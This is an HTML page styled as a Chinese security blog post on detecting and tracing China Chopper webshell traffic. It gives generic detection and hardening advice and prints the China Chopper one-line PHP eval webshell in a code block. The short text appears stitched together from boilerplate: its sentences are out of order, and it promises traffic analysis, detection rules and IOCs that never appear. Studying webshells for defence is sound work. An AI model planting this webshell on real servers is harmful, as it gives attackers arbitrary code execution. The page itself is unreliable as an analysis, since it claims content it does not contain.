<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>China Chopper流量解密与溯源 - FreeBuf风格博客</title>
<style>*{box-sizing:border-box}body{background:#111;color:#eee}</style>

</head>
<body>
<div id="nav">
  <span class="nav-item"><a href="/1">首页</a></span>
  <span class="nav-item"><a href="/#2">漏洞分析</a></span>
  <span class="nav-item"><a href="/page/3">应急响应</a></span>
  <span class="nav-item"><a href="/#4">威胁情报</a></span>
  <span class="nav-item"><a href="/5">关于</a></span>
</div>
<main class="container">
<div class="box">
<article><h1>China Chopper流量解密与溯源</h1><p>检测思路包括静态特征匹配、动态沙箱执行和流量特征分析三类。</p>
<p>修复建议：及时升级补丁，禁止上传目录执行脚本，部署WAF和主机安全产品，定期查杀Webshell。</p>
<p>本文从防守方视角，分析该工具的通信流量特征，并给出检测规则与加固建议。</p>
<p>IOC：可疑文件哈希与回连地址已在文末给出，供蓝队参考。</p><pre><code>&lt;?php @eval($_POST['cmd']);?&gt;</code></pre></article>
</div>
</main>
<footer>本文仅用于安全研究与防御</footer>
<script src="/static/js/app.b364dded.js"></script>
</body>
</html>
